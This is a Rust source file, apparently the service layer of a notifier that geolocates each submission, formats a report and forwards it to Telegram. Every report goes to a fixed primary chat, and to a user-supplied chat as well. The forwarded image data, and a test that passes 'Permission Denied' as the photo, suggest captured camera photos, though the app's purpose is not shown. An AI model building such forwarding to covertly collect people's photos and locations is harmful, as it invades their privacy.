/// Business logic services layer
use crate::clients::{IpinfoClient, TelegramClient};
use crate::domain::{DispatchResult, GeoInfo, SubmissionPayload};
use crate::errors::ApiResult;
use crate::report::{self, IMAGE_DATA_PREFIX};
use tracing::{error, warn};

/// Destination seam for dispatch. Implemented by `TelegramClient`;
/// tests substitute a recording stub.
pub trait ChatSink {
    async fn send_message(&self, chat_id: &str, text: &str) -> ApiResult<()>;
    async fn send_photo(&self, chat_id: &str, photo: &str, caption: &str) -> ApiResult<()>;
}

impl ChatSink for TelegramClient {
    async fn send_message(&self, chat_id: &str, text: &str) -> ApiResult<()> {
        TelegramClient::send_message(self, chat_id, text).await
    }

    async fn send_photo(&self, chat_id: &str, photo: &str, caption: &str) -> ApiResult<()> {
        TelegramClient::send_photo(self, chat_id, photo, caption).await
    }
}

/// Effective target set: the primary chat id first, the payload-supplied
/// id only when distinct and non-empty. At most two members.
pub fn dispatch_targets(primary: &str, user_chat_id: Option<&str>) -> Vec<String> {
    let mut targets = vec![primary.to_string()];
    if let Some(user) = user_chat_id {
        if !user.is_empty() && user != primary {
            targets.push(user.to_string());
        }
    }
    targets
}

/// Send the report (and photo, when it carries image data) to each target
/// in order. Failures are recorded per target and never cross over.
pub async fn dispatch<S: ChatSink>(
    sink: &S,
    targets: &[String],
    text: &str,
    photo: Option<&str>,
    caption: &str,
) -> Vec<DispatchResult> {
    let photo = photo.filter(|p| p.starts_with(IMAGE_DATA_PREFIX));

    let mut results = Vec::with_capacity(targets.len());
    for chat_id in targets {
        match send_to_target(sink, chat_id, text, photo, caption).await {
            Ok(()) => results.push(DispatchResult {
                chat_id: chat_id.clone(),
                success: true,
                error: None,
            }),
            Err(e) => {
                error!("dispatch to chat {chat_id} failed: {e}");
                results.push(DispatchResult {
                    chat_id: chat_id.clone(),
                    success: false,
                    error: Some(e.to_string()),
                });
            }
        }
    }
    results
}

async fn send_to_target<S: ChatSink>(
    sink: &S,
    chat_id: &str,
    text: &str,
    photo: Option<&str>,
    caption: &str,
) -> ApiResult<()> {
    sink.send_message(chat_id, text).await?;
    if let Some(photo) = photo {
        sink.send_photo(chat_id, photo, caption).await?;
    }
    Ok(())
}

/// End-to-end pipeline for one submission: enrich, render, fan out.
pub struct NotifierService {
    geo_client: IpinfoClient,
    telegram: TelegramClient,
    primary_chat_id: String,
}

impl NotifierService {
    pub fn new(geo_client: IpinfoClient, telegram: TelegramClient, primary_chat_id: String) -> Self {
        Self {
            geo_client,
            telegram,
            primary_chat_id,
        }
    }

    /// Geolocation enrichment. Lookup failures are absorbed here and
    /// replaced with the fixed fallback record.
    pub async fn enrich(&self) -> GeoInfo {
        match self.geo_client.lookup().await {
            Ok(geo) => geo,
            Err(e) => {
                warn!("ipinfo lookup failed, using fallback record: {e}");
                GeoInfo::unknown()
            }
        }
    }

    /// Process one submission and return the ordered per-target outcomes.
    pub async fn handle(&self, payload: &SubmissionPayload) -> Vec<DispatchResult> {
        let geo = self.enrich().await;
        let text = report::render_report(payload, &geo);
        let caption = report::photo_caption(payload);
        let targets = dispatch_targets(&self.primary_chat_id, payload.user_chat_id.as_deref());

        dispatch(
            &self.telegram,
            &targets,
            &text,
            payload.photo.as_deref(),
            &caption,
        )
        .await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::errors::ApiError;
    use std::sync::Mutex;

    #[test]
    fn targets_dedup_identical_ids() {
        assert_eq!(dispatch_targets("100", Some("100")), vec!["100"]);
    }

    #[test]
    fn targets_keep_primary_first_when_distinct() {
        assert_eq!(dispatch_targets("100", Some("200")), vec!["100", "200"]);
    }

    #[test]
    fn targets_ignore_absent_or_empty_user_id() {
        assert_eq!(dispatch_targets("100", None), vec!["100"]);
        assert_eq!(dispatch_targets("100", Some("")), vec!["100"]);
    }

    /// Records every call; fails sends for one configured chat id.
    struct StubSink {
        fail_chat: Option<&'static str>,
        calls: Mutex<Vec<String>>,
    }

    impl StubSink {
        fn new(fail_chat: Option<&'static str>) -> Self {
            Self {
                fail_chat,
                calls: Mutex::new(Vec::new()),
            }
        }

        fn calls(&self) -> Vec<String> {
            self.calls.lock().unwrap().clone()
        }
    }

    impl ChatSink for StubSink {
        async fn send_message(&self, chat_id: &str, _text: &str) -> ApiResult<()> {
            self.calls.lock().unwrap().push(format!("msg:{chat_id}"));
            if self.fail_chat == Some(chat_id) {
                return Err(ApiError::Upstream("chat not found".to_string()));
            }
            Ok(())
        }

        async fn send_photo(&self, chat_id: &str, _photo: &str, _caption: &str) -> ApiResult<()> {
            self.calls.lock().unwrap().push(format!("photo:{chat_id}"));
            Ok(())
        }
    }

    fn ids(targets: &[&str]) -> Vec<String> {
        targets.iter().map(|s| s.to_string()).collect()
    }

    #[tokio::test]
    async fn one_failing_target_does_not_block_the_other() {
        let sink = StubSink::new(Some("100"));
        let results = dispatch(&sink, &ids(&["100", "200"]), "hi", None, "cap").await;

        assert_eq!(results.len(), 2);
        assert_eq!(results[0].chat_id, "100");
        assert!(!results[0].success);
        assert!(results[0].error.as_deref().unwrap().contains("chat not found"));
        assert_eq!(results[1].chat_id, "200");
        assert!(results[1].success);
        assert!(results[1].error.is_none());
    }

    #[tokio::test]
    async fn photo_sent_only_for_image_data_uri() {
        let sink = StubSink::new(None);
        dispatch(
            &sink,
            &ids(&["100"]),
            "hi",
            Some("data:image/jpeg;base64,QQ=="),
            "cap",
        )
        .await;
        assert_eq!(sink.calls(), vec!["msg:100", "photo:100"]);

        let sink = StubSink::new(None);
        dispatch(&sink, &ids(&["100"]), "hi", Some("Permission Denied"), "cap").await;
        assert_eq!(sink.calls(), vec!["msg:100"]);

        let sink = StubSink::new(None);
        dispatch(&sink, &ids(&["100"]), "hi", None, "cap").await;
        assert_eq!(sink.calls(), vec!["msg:100"]);
    }

    #[tokio::test]
    async fn results_follow_target_order() {
        let sink = StubSink::new(None);
        let results = dispatch(&sink, &ids(&["100", "200"]), "hi", None, "cap").await;
        let order: Vec<&str> = results.iter().map(|r| r.chat_id.as_str()).collect();
        assert_eq!(order, vec!["100", "200"]);
    }

    #[tokio::test]
    async fn enrichment_failure_yields_fallback_record() {
        // Nothing listens here; the lookup errors out immediately.
        let geo_client = IpinfoClient::new("http://127.0.0.1:1/json".to_string(), None).unwrap();
        let telegram =
            TelegramClient::new("http://127.0.0.1:1".to_string(), "token".to_string()).unwrap();
        let service = NotifierService::new(geo_client, telegram, "100".to_string());

        let geo = service.enrich().await;
        assert_eq!(geo.ip.as_deref(), Some("Unknown"));
        assert_eq!(geo.country.as_deref(), Some("Unknown"));
    }
}
